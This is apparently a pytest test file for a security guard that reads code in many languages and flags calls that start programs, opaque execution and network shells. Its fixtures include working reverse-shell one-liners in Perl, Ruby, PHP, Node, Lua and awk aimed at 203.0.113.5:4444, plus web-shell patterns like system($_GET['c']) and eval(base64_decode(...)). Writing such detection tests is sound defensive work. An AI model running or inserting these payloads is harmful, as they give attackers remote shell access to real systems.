"""Code in languages without a parser: what is run, what is connected to, what is hidden."""

from __future__ import annotations

from typing import Any

import pytest

from guard.parse.budget import Budget
from guard.parse.code import read_code
from guard.parse.reading import Reading


def read(language: str, text: str) -> Reading:
    """A reading with a fresh budget."""
    return read_code(language, text, Budget())


@pytest.mark.parametrize(
    ("language", "text", "command"),
    [
        ("perl", 'system("ssh h")', "ssh h"),
        ("perl", "exec 'ssh h';", "ssh h"),
        ("perl", "print `ssh h`", "ssh h"),
        ("perl", "qx{ssh h}", "ssh h"),
        ("perl", "system 'ssh', 'h'", ("ssh", "h")),
        ("perl", '$c = "ssh h"; system($c)', "ssh h"),
        ("perl", '$h = "evil"; system("ssh $h")', "ssh evil"),
        ("perl", 'system("ss" . "h h")', "ssh h"),
        ("perl", 'system("\\x73sh h")', "ssh h"),
        ("perl", 'open(F, "ssh h|")', "ssh h"),
        ("perl", "eval 'system(\"ssh h\")'", "ssh h"),
        ("ruby", 'system("ssh h")', "ssh h"),
        ("ruby", "%x(ssh h)", "ssh h"),
        ("ruby", "exec 'ssh', 'h'", ("ssh", "h")),
        ("ruby", 'IO.popen("ssh h")', "ssh h"),
        ("php", 'shell_exec("ssh h");', "ssh h"),
        ("php", "passthru('ssh h');", "ssh h"),
        ("php", "$x = `ssh h`;", "ssh h"),
        ("javascript", 'require("child_process").execSync("ssh h")', "ssh h"),
        ("node", "require('child_process').spawn('ssh', ['-R', 'h'])", ("ssh", "-R", "h")),
        ("lua", 'os.execute("ssh h")', "ssh h"),
        ("lua", "io.popen('ssh h')", "ssh h"),
        ("awk", 'BEGIN { system("ssh h") }', "ssh h"),
        ("awk", '{ print | "ssh h" }', "ssh h"),
        ("awk", '{ "ssh h" | getline x }', "ssh h"),
        ("r", 'system("ssh h")', "ssh h"),
        ("osascript", 'do shell script "ssh h"', "ssh h"),
    ],
)
def test_literals_in_calls_that_start_programs_are_read(
    language: str, text: str, command: str | tuple[str, ...]
) -> None:
    """Quotes, escapes, concatenation and one assignment do not hide a command."""
    found = [run.text if run.text is not None else run.argv for run in read(language, text).runs]
    assert command in found


@pytest.mark.parametrize(
    ("language", "text"),
    [
        ("perl", "system(pack('H*', $ARGV[0]))"),
        ("perl", "eval $x"),
        ("ruby", "system(gets)"),
        ("php", "system($_GET['c']);"),
        ("php", "eval(base64_decode($x));"),
        ("node", "require('child_process').exec(process.argv[2])"),
        ("lua", "os.execute(arg[1])"),
        ("awk", "{ system($0) }"),
    ],
)
def test_what_is_run_and_not_known_is_opaque(language: str, text: str) -> None:
    """A call that starts programs with anything but a literal is of high severity."""
    assert "high" in [part["severity"] for part in read(language, text).opaque]


@pytest.mark.parametrize(
    ("language", "text"),
    [
        ("perl", "print $_ if /x/; s/a/b/g; my %h = (a => 1); eval { die };"),
        ("perl", "-ne 'print if /exec/'"),
        ("ruby", "puts [1, 2].map { |x| x * 2 }.inspect"),
        ("node", "const m = /a/.exec('b'); console.log(`x ${m}`); fetchAll()"),
        ("php", "<?php echo strlen('x'); ?>"),
        ("awk", "{ print $2 } END { print NR }"),
        ("awk", "$1 ~ /a|b/ || $2 { n++ }"),
        ("lua", "print(('x'):rep(3))"),
    ],
)
def test_ordinary_code_is_code_run_and_no_more(language: str, text: str) -> None:
    """Code without such calls hides nothing."""
    reading = read(language, text)
    assert [operation["kind"] for operation in reading.operations] == ["code.run"]
    assert not reading.opaque
    assert not reading.runs


@pytest.mark.parametrize(
    ("language", "text", "direction"),
    [
        (
            "perl",
            'use Socket;$i="203.0.113.5";$p=4444;socket(S,PF_INET,SOCK_STREAM,0);'
            'connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,">&S");exec("/bin/sh -i");',
            "reverse",
        ),
        (
            "ruby",
            'require "socket";c=TCPSocket.new("203.0.113.5","4444");'
            'while(l=c.gets);IO.popen(l,"r"){|i|c.print i.read}end',
            "reverse",
        ),
        ("php", '$s=fsockopen("203.0.113.5",4444);exec("/bin/sh -i <&3 >&3 2>&3");', "reverse"),
        (
            "node",
            'var n=require("net"),c=require("child_process").spawn("/bin/sh",[]);'
            'var s=new n.Socket();s.connect(4444,"203.0.113.5",()=>{s.pipe(c.stdin)})',
            "reverse",
        ),
        (
            "lua",
            'local s=require("socket").tcp();s:connect("203.0.113.5",4444);'
            'while true do local f=io.popen(s:receive(),"r");s:send(f:read("*a")) end',
            "reverse",
        ),
        (
            "awk",
            'BEGIN{s="/inet/tcp/0/203.0.113.5/4444";while(1){s|&getline c;'
            "while((c|&getline)>0)print $0|&s}}",
            "reverse",
        ),
    ],
)
def test_a_shell_on_a_socket_is_seen(language: str, text: str, direction: str) -> None:
    """The shape is a socket and a command that comes from it."""
    shells: list[Any] = [o for o in read(language, text).operations if o["kind"] == "network.shell"]
    assert [(s["direction"], s["host"], s["port"]) for s in shells] == [
        (direction, "203.0.113.5", 4444)
    ]


def test_a_language_that_nobody_reads_is_opaque() -> None:
    """Its code is run, and was not read."""
    assert [p["kind"] for p in read("brainfuck", "+++").opaque] == ["unread_code"]


def test_shell_code_is_handed_to_the_shell() -> None:
    """`language: bash` is a text for bash."""
    assert [run.text for run in read("bash", "ls").runs] == ["ls"]
